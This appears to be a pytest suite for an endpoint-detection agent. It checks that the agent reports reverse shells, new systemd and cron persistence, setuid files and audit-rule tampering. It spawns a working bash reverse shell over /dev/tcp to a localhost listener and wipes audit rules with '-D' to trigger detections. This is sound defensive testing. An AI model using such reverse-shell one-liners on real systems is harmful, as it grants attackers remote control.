"""The watcher, run as its unit runs it: what it reports while it looks, and the harmless twin that it does not."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import socket
import subprocess
from pathlib import Path

import pytest
from edr_rig import BOUND_S, Host, until

from saw.edr.detection import WORST_AT_ONCE

pytestmark = pytest.mark.control("P0-03")
UNIT = "[Service]\nExecStart=/bin/true\n"


@contextlib.contextmanager
def reverse_shell():
    """A real interactive bash that dialled a listener on this machine: (its pid, the listener's end)."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        command = ["/bin/bash", "--norc", "--noprofile", "-i"]
        wrapper = f"exec {' '.join(command)} >& /dev/tcp/127.0.0.1/{port} 0>&1"
        process = subprocess.Popen(["/bin/bash", "-c", wrapper], start_new_session=True, stdin=subprocess.DEVNULL)
        try:
            listener.settimeout(BOUND_S)
            peer, _ = listener.accept()
            with peer:
                peer.settimeout(BOUND_S)
                peer.sendall(b"echo I-AM-$((40+2))\n")
                seen = b""
                while b"I-AM-42" not in seen:
                    seen += peer.recv(4096)
                yield process.pid, peer
        finally:
            process.kill()
            process.wait(BOUND_S)


def pids(host: Host) -> list[int]:
    return [one.event["unmapped"]["saw"]["pid"] for one in host.found("reverse_shell")]


def test_a_reverse_shell_is_reported_once_and_shells_on_pipes_and_local_sockets_are_not(host: Host) -> None:
    ours, theirs = socket.socketpair()
    wait = ["/bin/bash", "--norc", "--noprofile", "-c", "read -r line"]
    piped = subprocess.Popen(wait, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    local = subprocess.Popen(wait, stdin=theirs, stdout=theirs)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        dial = f"exec 3<>/dev/tcp/127.0.0.1/{listener.getsockname()[1]}; echo here; read -r line"
        client = subprocess.Popen(
            ["/bin/bash", "-c", dial], stdin=subprocess.PIPE, stdout=subprocess.PIPE
        )  # a script that uses the network
        try:
            assert client.stdout.readline() == b"here\n"
            with host.watching(), reverse_shell() as (pid, _):
                until(lambda: pid in pids(host), "the reverse shell")
                host.looked_again()
                assert pids(host).count(pid) == 1
                harmless = {piped.pid, local.pid, client.pid}
                assert harmless & set(pids(host)) == set()
        finally:
            for process in (piped, local, client):
                process.kill()
                process.communicate()
    ours.close()
    theirs.close()
    event = next(one.event for one in host.found("reverse_shell") if one.event["unmapped"]["saw"]["pid"] == pid)
    assert event["severity"] == "Critical"
    assert event["unmapped"]["saw"]["peer"].startswith("tcp 127.0.0.1:")


def test_a_new_unit_a_user_unit_and_a_cron_job_are_reported_and_notes_beside_them_are_not(host: Host) -> None:
    etc = host.root / "etc"
    with host.watching():
        (etc / "systemd/system/notes.txt").write_text("not a unit")
        (etc / "cron.d/job.disabled").write_text("* * * * * root true\n")  # cron reads no name with a dot
        os.utime(etc / "systemd/system/known.service")
        (etc / "systemd/system/known.service").write_text(UNIT)  # the same content again
        (etc / "systemd/system/door.service").write_text(UNIT)
        (etc / "cron.d/job").write_text("* * * * * root true\n")
        user = host.root / "home/ann/.config/systemd/user"
        user.mkdir(parents=True)
        (user / "agent.timer").write_text("[Timer]\n")
        wanted = {"/etc/systemd/system/door.service", "/etc/cron.d/job", "/home/ann/.config/systemd/user/agent.timer"}
        until(lambda: wanted <= set(host.subjects("persistence")), "the findings")
        host.looked_again()
        assert sorted(host.subjects("persistence")) == sorted(wanted)
        # one that went and comes again is a second finding, and a known one that changes is one too
        (etc / "cron.d/job").unlink()
        host.looked_again()
        (etc / "cron.d/job").write_text("* * * * * root true\n")
        (etc / "systemd/system/known.service").write_text(UNIT.replace("true", "false"))
        until(lambda: host.subjects("persistence").count("/etc/cron.d/job") == 2, "the job that came again")
        until(lambda: "/etc/systemd/system/known.service" in host.subjects("persistence"), "the changed unit")


def test_a_new_setuid_file_is_reported_and_a_known_one_is_not(host: Host) -> None:
    with host.watching():
        plain = host.root / "tmp/plain"
        plain.write_bytes(b"#!")
        plain.chmod(0o755)
        door = host.root / "tmp/door"
        door.write_bytes(b"#!")
        door.chmod(0o4755)
        os.utime(host.root / "usr/bin/known-setuid")
        until(lambda: "/tmp/door" in host.subjects("setuid_file"), "the setuid file")
        host.looked_again()
        assert host.subjects("setuid_file") == ["/tmp/door"]
        group = host.root / "usr/bin/tool"
        group.chmod(0o2755)
        until(lambda: "/usr/bin/tool" in host.subjects("setuid_file"), "the setgid file")


def test_a_change_to_audit_rules_or_to_the_agents_configuration_is_reported_and_a_touch_is_not(host: Host) -> None:
    rules = host.root / "etc/audit/rules.d/saw.rules"
    with host.watching():
        os.utime(rules)
        (host.root / "etc/other.conf").write_text("x")
        host.looked_again()
        assert host.subjects("tampering") == []
        rules.write_text("-D\n")
        until(lambda: host.subjects("tampering") == ["/etc/audit/rules.d/saw.rules"], "the changed rules")
        (host.root / "etc/audit/auditd.conf").unlink()
        until(lambda: "/etc/audit/auditd.conf" in host.subjects("tampering"), "the removed file")
        host.config_file.write_text(host.config_file.read_text() + "\n")
        until(lambda: str(host.config_file) in host.subjects("tampering"), "the agent's own configuration")
        assert len(host.found("tampering")) == 3


def test_what_happens_while_the_watcher_is_away_is_reported_when_it_is_back(host: Host) -> None:
    with host.watching() as process:
        first = {one.event["unmapped"]["saw"]["area"] for one in host.found("baseline_taken")}
        assert first >= {"protected", "persistence", "setuid"}
        process.send_signal(signal.SIGKILL)
        process.wait(BOUND_S)
    (host.root / "etc/cron.d/job").write_text("* * * * * root true\n")
    with host.watching():
        until(lambda: host.subjects("persistence") == ["/etc/cron.d/job"], "the job")
        assert len(host.found("baseline_taken")) == len(first), "what was known was forgotten"


def test_a_wiped_state_is_a_finding_and_places_that_are_added_are_taken_as_they_are(host: Host) -> None:
    more = [*host.config.persistence, f"{host.root}/etc/more"]
    (host.root / "etc/more").mkdir()
    (host.root / "etc/more/rc.local").write_text("true\n")
    with host.watching():
        pass
    host.configure(persistence=more)
    with host.watching():
        pass
    assert host.subjects("persistence") == []
    told = [one.event["unmapped"]["saw"] for one in host.found("baseline_taken")]
    assert [(one["first"], one["files"]) for one in told if one["area"] == "persistence"] == [(True, 1), (False, 1)]
    assert host.subjects("tampering") == [str(host.config_file)]
    for path in (host.folder / "state").iterdir():
        path.unlink()
    with host.watching():
        assert {one.event["unmapped"]["saw"]["area"] for one in host.found("baseline_taken")} >= {"protected", "setuid"}


def test_an_ignored_finding_is_not_reported_and_others_of_its_kind_are(host: Host) -> None:
    host.configure(ignore=[{"kind": "setuid_file", "subject": "*/tmp/ours", "reason": "the build makes it"}])
    with host.watching():
        for name in ("ours", "theirs"):
            (host.root / "tmp" / name).write_bytes(b"#!")
            (host.root / "tmp" / name).chmod(0o4755)
        until(lambda: host.subjects("setuid_file"), "the other file")
        host.looked_again()
        assert host.subjects("setuid_file") == ["/tmp/theirs"]


def test_a_flood_of_files_is_reported_as_some_and_a_count(host: Host) -> None:
    files = WORST_AT_ONCE + 80
    with host.watching() as process:
        process.send_signal(signal.SIGSTOP)
        for number in range(files):
            (host.root / f"tmp/f{number}").write_bytes(b"")
            (host.root / f"tmp/f{number}").chmod(0o4755)
        process.send_signal(signal.SIGCONT)
        until(lambda: sum(_count(one.event) for one in host.found("setuid_file")) == files, "all of them")
        assert len(host.found("setuid_file")) == WORST_AT_ONCE + 1


def _count(event: dict) -> int:
    return event["unmapped"]["saw"].get("count", 1)


def test_status_is_well_while_the_watcher_looks_and_red_after_it_died(host: Host, tmp_path: Path) -> None:
    host.configure(malware=None, integrity=None)
    with host.watching() as process:
        well = host.saw("status", "--json")
        assert (well.returncode, json.loads(well.stdout)["problems"]) == (0, [])
        process.send_signal(signal.SIGKILL)
        process.wait(BOUND_S)
    host.config.beat.write_text(json.dumps({"time": host.beats() - 3600}))
    dead = host.saw("status")
    assert dead.returncode == 1
    assert "the watcher has shown no life for 36" in dead.stdout
